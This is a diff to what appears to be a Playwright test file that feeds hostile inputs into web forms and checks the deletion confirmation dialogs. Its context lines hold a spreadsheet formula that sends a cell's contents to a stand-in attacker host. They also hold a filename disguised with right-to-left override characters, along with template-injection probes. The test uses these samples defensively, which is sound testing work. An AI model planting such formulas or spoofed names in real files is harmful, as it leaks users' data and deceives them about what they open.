@@ -11,6 +11,9 @@ const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Click")';
 const DISGUISED = '\u202Egpj.exe\u202C",\'; {{7*7}} ${7*7} @SUM(1)';
 const HOSTILE = [MARKUP, FORMULA, DISGUISED];
 
+/** A sentence of plain text leaves out the marks that would turn what stands after a visitor's words. */
+const withoutTurns = (text: string): string => text.replace(/[\u202A-\u202E]/g, '');
+
 interface Form {
   tab: string;
   send: Endpoint;
@@ -110,7 +113,7 @@ for (const [at, [place, { tab, send, texts, rest = {} }]] of Object.entries(FORM
 
       await page.keyboard.press('d');
       const question = page.getByRole('dialog', { name: 'Are you sure?' });
-      await expect(question).toContainText(rest['name'] ?? typed[0]?.slice(0, 40) ?? '');
+      await expect(question).toContainText(rest['name'] ?? withoutTurns(typed[0] ?? '').slice(0, 38));
       await staff.answer('Yes, delete');
       await page.keyboard.press('Escape');
       await expect(row).toBeHidden();
